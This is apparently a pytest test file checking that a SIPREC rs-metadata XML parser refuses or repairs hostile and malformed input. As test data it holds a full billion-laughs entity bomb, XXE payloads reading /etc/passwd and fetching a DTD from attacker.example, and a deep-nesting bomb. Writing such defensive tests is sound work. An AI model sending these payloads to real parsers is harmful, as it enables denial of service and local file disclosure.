"""Tests for callvault.siprec.xmlsafety: hostile and broken rs-metadata XML."""

from __future__ import annotations

import tracemalloc

import pytest
from hypothesis import given
from hypothesis import strategies as st

from callvault.siprec import MetadataError, parse_metadata
from callvault.siprec.xmlsafety import parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<recording xmlns="urn:ietf:params:xml:ns:recording:1"><datamode>&lol9;</datamode></recording>
"""
DTD_FORBIDDEN = "rs-metadata rejected: DTD/entity declarations are forbidden"


def reason(data: bytes, **limits: int) -> str:
    with pytest.raises(MetadataError) as info:
        parse_metadata(data, **limits)
    assert info.value.status == 400
    return info.value.reason


def test_billion_laughs_is_refused() -> None:
    assert reason(BILLION_LAUGHS) == DTD_FORBIDDEN


def test_billion_laughs_costs_no_memory() -> None:
    tracemalloc.start()
    try:
        with pytest.raises(MetadataError):
            parse_metadata(BILLION_LAUGHS)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Expanded, &lol9; is 3 GB of text; refused at <!DOCTYPE it costs a few kB.
    assert peak < 512 * 1024


@pytest.mark.parametrize(
    "document",
    [
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<recording>&x;</recording>",
        b'<!DOCTYPE recording SYSTEM "http://attacker.example/evil.dtd"><recording/>',
        b'<!DOCTYPE recording PUBLIC "-//X//Y" "http://a.example/x.dtd"><recording/>',
        b"<!DOCTYPE recording><recording/>",
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://a.example/p">%p;]><recording/>',
    ],
)
def test_external_entities_and_dtds_are_refused(document: bytes) -> None:
    assert reason(document) == DTD_FORBIDDEN


def test_size_is_checked_before_parsing() -> None:
    big = b"<recording>" + b" " * 300 + b"</recording>"
    assert (
        reason(big, max_bytes=100) == "rs-metadata rejected: 323 bytes exceeds the 100-byte limit"
    )
    # The same bytes pass with a larger bound; the default is 256 KiB.
    assert parse_metadata(big, max_bytes=1000).root_element == "recording"
    huge = b"<recording>" + b"x" * (256 * 1024) + b"</recording>"
    assert reason(huge) == f"rs-metadata rejected: {len(huge)} bytes exceeds the 262144-byte limit"


def test_depth_is_bounded_while_parsing() -> None:
    deep = b"<recording>" + b"<a>" * 40 + b"</a>" * 40 + b"</recording>"
    assert reason(deep) == "rs-metadata rejected: nesting deeper than 32 elements"
    shallow = b"<recording>" + b"<a>" * 30 + b"</a>" * 30 + b"</recording>"
    assert parse_metadata(shallow).datamode == "complete"


def test_deep_document_is_refused_without_building_it() -> None:
    # 100k open tags: refused at tag 33, long before the tree or the input end.
    deep = b"<recording>" + b"<a>" * 100_000
    tracemalloc.start()
    try:
        assert reason(deep, max_bytes=1 << 20) == (
            "rs-metadata rejected: nesting deeper than 32 elements"
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 2 * 1024 * 1024


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (b"", "rs-metadata rejected: empty body"),
        (b"  \r\n", "rs-metadata rejected: empty body"),
        (
            b"this is not xml",
            "rs-metadata rejected: not well-formed XML (syntax error: line 1, column 0)",
        ),
        (
            b"<recording><participant></recording>",
            "rs-metadata rejected: not well-formed XML (mismatched tag: line 1, column 26)",
        ),
        (
            b"<recording>&</recording",
            "rs-metadata rejected: not well-formed XML (not well-formed (invalid token): "
            "line 1, column 12)",
        ),
        (
            b'<?xml version="1.0" encoding="U65536TF-8"?><recording/>',
            "rs-metadata rejected: unsupported character encoding",
        ),
        (
            b'<?xml version="1.0" encoding="shift_jis"?><recording/>',
            "rs-metadata rejected: unsupported character encoding",
        ),
        (
            b"<html><body/></html>",
            "rs-metadata rejected: root element <html> is not <recording>",
        ),
    ],
)
def test_unrecoverable(document: bytes, message: str) -> None:
    assert reason(document) == message


@pytest.mark.parametrize(
    ("document", "warning", "name"),
    [
        (
            b"<recording><datamode>complete</datamode><participant id='p'>"
            b"<nameID aor='a'><name>A&B</name></nameID>"
            b"</participant></recording>",
            "rs-metadata repaired: escaped 1 unescaped '&' "
            "(was: not well-formed (invalid token): line 1, column 85)",
            "A&B",
        ),
        (
            b"<recording><datamode>complete</datamode><participant id='p'>"
            b"<nameID aor='a'><name>A&nbsp;&amp;&#65;&</name>"
            b"</nameID></participant></recording>",
            "rs-metadata repaired: escaped 2 unescaped '&' "
            "(was: undefined entity: line 1, column 83)",
            "A&nbsp;&A&",
        ),
        (
            b"\r\n\r\n<?xml version='1.0'?><recording><datamode>complete</datamode>"
            b"<participant id='p'><nameID aor='a'>"
            b"<name>B</name></nameID></participant></recording>",
            "rs-metadata repaired: removed blank space before the XML declaration "
            "(was: XML or text declaration not at start of entity: line 3, column 0)",
            "B",
        ),
        (
            b"<?xml version='1.0' encoding='UTF-8'?><recording><datamode>complete</datamode>"
            b"<participant id='p'><nameID aor='a'><name>Jos\xe9 & Ren\x80</name>"
            b"</nameID></participant></recording>",
            "rs-metadata repaired: re-encoded non-UTF-8 bytes as Windows-1252; escaped 1 "
            "unescaped '&' (was: not well-formed (invalid token): line 1, column 123)",
            "Jos\xe9 & Ren\u20ac",
        ),
    ],
)
def test_recoverable_faults_are_repaired_and_reported(
    document: bytes, warning: str, name: str
) -> None:
    metadata = parse_metadata(document)
    assert metadata.well_formed is False
    assert metadata.warnings == (warning,)
    assert metadata.participants[0].name == name


def test_spans_are_verbatim_including_empty_elements() -> None:
    source = b"<r a='>'><x y=\"1>2\"/><z>t<w/></z ></r>"
    parsed = parse_xml(source, max_bytes=1000, max_depth=8)
    x, z = list(parsed.root)
    assert parsed.raw(x) == '<x y="1>2"/>'
    assert parsed.raw(z) == "<z>t<w/></z >"
    assert parsed.raw(parsed.root) == source.decode()


@given(st.binary(max_size=500))
def test_never_crashes_on_bytes(data: bytes) -> None:
    try:
        parse_metadata(data)
    except MetadataError as exc:
        assert exc.status == 400
        assert exc.reason.startswith("rs-metadata rejected: ")


_TAGS = st.sampled_from(
    [
        "recording",
        "datamode",
        "participant",
        "stream",
        "label",
        "send",
        "recv",
        "nameID",
        "participantstreamassoc",
        "session",
        "extensiondata",
        "name",
        "aor",
        "id",
    ]
)


@st.composite
def xmlish(draw: st.DrawFn, depth: int = 0) -> str:
    tag = draw(_TAGS)
    attrs = draw(
        st.sampled_from(["", " id='a'", " participant_id='p'", " stream_id=''", " aor='x'"])
    )
    if depth > 3:
        return f"<{tag}{attrs}>{draw(st.sampled_from(['', 'a', '&', 'x&amp;y']))}</{tag}>"
    children = draw(st.lists(xmlish(depth + 1), max_size=3))
    return f"<{tag}{attrs}>{''.join(children)}</{tag}>"


@given(xmlish())
def test_never_crashes_on_structured_noise(body: str) -> None:
    data = (
        "<recording xmlns='urn:ietf:params:xml:ns:recording:1'>" + body + "</recording>"
    ).encode()
    try:
        metadata = parse_metadata(data)
    except MetadataError as exc:
        assert exc.reason.startswith("rs-metadata rejected: ")
        return
    for participant in metadata.participants:
        metadata.labels_sent_by(participant)
        metadata.labels_received_by(participant)
